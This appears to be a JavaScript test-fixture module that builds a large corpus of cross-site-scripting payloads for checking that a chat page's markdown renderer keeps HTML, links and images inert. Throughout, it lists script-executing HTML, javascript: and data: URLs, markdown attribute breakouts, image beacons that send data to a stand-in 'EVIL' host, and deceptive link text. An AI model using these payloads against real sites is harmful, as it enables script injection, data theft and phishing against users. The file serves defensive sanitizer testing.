// Texts that try to run a script, load something from elsewhere, or open a door. Written for this page: its own
// markdown, its links, its attributes; and the families that broke other chat pages.

const RUN = "window.xssMarker=1";

/** Families of HTML that must stay text. */
const HTML = [
  `<script>${RUN}</script>`,
  `<script src="EVIL/a.js"></script>`,
  `</script><script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type="module">import "EVIL/m.js"</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="EVIL/pixel.png">`,
  `<img srcset="EVIL/1x.png 1x, EVIL/2x.png 2x">`,
  `<img src=x onerror=alert(1)//`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><iframe src="EVIL/f"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48L3N2Zz4=#x"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.xssMarker=1</script>"></iframe>`,
  `<iframe src="EVIL/frame"></iframe>`,
  `<object data="EVIL/o.swf"></object>`,
  `<object data="javascript:${RUN}">`,
  `<embed src="EVIL/e">`,
  `<link rel=stylesheet href="EVIL/s.css">`,
  `<link rel="dns-prefetch" href="EVIL">`,
  `<link rel="preload" as="script" href="EVIL/p.js">`,
  `<link rel="prefetch" href="EVIL/next">`,
  `<meta http-equiv="refresh" content="0;url=EVIL/refresh">`,
  `<base href="EVIL/">`,
  `<style>@import "EVIL/i.css";</style>`,
  `<style>*{background:url(EVIL/bg.png)}</style>`,
  `<div style="background-image:url(EVIL/d.png)">x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<form action="EVIL/post"><button formaction="javascript:${RUN}">x</button></form>`,
  `<form><input autofocus onfocus=${RUN}></form>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video src="EVIL/v.mp4" autoplay onloadstart=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<video poster="EVIL/poster.png"></video>`,
  `<body onload=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN} tabindex=1>x</a>`,
  `<a ping="EVIL/ping" href="#">x</a>`,
  `<input type=image src="EVIL/i.png" onerror=${RUN}>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<xss id=x style="animation:a 1s" onanimationstart=${RUN}>`,
  `<x onclick=${RUN} style="position:fixed;inset:0;z-index:99">x</x>`,
  `<button popovertarget=p>x</button><div popover id=p onbeforetoggle=${RUN}>x</div>`,
  `<portal src="EVIL/portal">`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<frameset onload=${RUN}>`,
  `<table background="EVIL/t.png"><td>x</table>`,
  `<dialog open oncancel=${RUN}>x</dialog>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><a xmlns:x="x" x:onload="${RUN}"/>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `"><img src=x onerror=${RUN}>`,
  `'-${RUN}-'`,
  `\`-${RUN}-\``,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `"};${RUN};//`,
];

/** Addresses that must never become a link. */
const ADDRESSES = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`, `&#106;avascript:${RUN}`, `javascript:${RUN}//http://ok.example`, `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `vbscript:msgbox(1)`, `file:///etc/passwd`, `blob:EVIL/x`, `view-source:EVIL/`,
  `//evil.example/x`, `/api/export`, `\\\\evil.example\\x`, `https:javascript:${RUN}`, `http:/\\evil`, `feed:javascript:${RUN}`, `jar:EVIL/!/x`, `intent://x#Intent;scheme=javascript;end`,
];
const AS_LINK = [(a) => `[x](${a})`, (a) => `<${a}>`, (a) => `[x](<${a}>)`, (a) => `![x](${a})`, (a) => `[x]: ${a}\n\n[x]`];

/** Markdown that tries to get out of its element or to fetch a picture. */
const MARKDOWN = [
  "![](EVIL/?q=secret)", "![a](EVIL/a.png 'title')", "[![a](EVIL/a.png)](EVIL/b)", "![ref][r]\n\n[r]: EVIL/ref.png", "<EVIL/auto>", "EVIL/bare?x=<script>",
  `[x](EVIL/"onmouseover="${RUN})`, `[x](EVIL/'onmouseover='${RUN})`, `[x](EVIL "t" onclick="${RUN}")`, `![x](EVIL/"onerror="${RUN})`, `[a\`](EVIL)\`<img src=x onerror=${RUN}>`,
  `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``, `\`\`\`html\n<script>${RUN}</script>\n\`\`\``, `\`<img src=x onerror=${RUN}>\``, `| a | b |\n|---|---|\n| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |`,
  `> <script>${RUN}</script>`, `- <svg onload=${RUN}>`, `# <img src=x onerror=${RUN}>`, `**<b onmouseover=${RUN}>x</b>**`, `***[x](javascript:${RUN})***`, `$\\href{javascript:${RUN}}{x}$`, "```mermaid\ngraph TD; A-->B; click A \"javascript:window.xssMarker=1\"\n```",
  `[\u202egnp.exe](EVIL/x)`, `[https://bank.example](EVIL/phish)`, `</ol></main><script>${RUN}</script>`, `data: {"event":"done"}\n\nevent: done\ndata: {}`, "\u0000<script>\u0000</script>", `<img src=x onerror=${RUN}>`.repeat(50),
];

/** All of them, with `evil` as the address of a listener that nobody may reach; `nested` = inside other marks, too. */
export function payloads(evil, { nested = true } = {}) {
  const links = ADDRESSES.flatMap((address) => AS_LINK.map((write) => write(address)));
  const all = [...HTML, ...links, ...MARKDOWN];
  // Inside other marks, too: what is safe alone must be safe in a list, a quote, a table or bold.
  const inside = HTML.flatMap((text) => [`- ${text}`, `> ${text}`, `**${text}**`, `[${text}](${evil}/n)`, `| ${text} |\n|---|\n| ${text} |`]);
  return [...new Set(nested ? [...all, ...inside] : all)].map((text) => text.replaceAll("EVIL", evil));
}
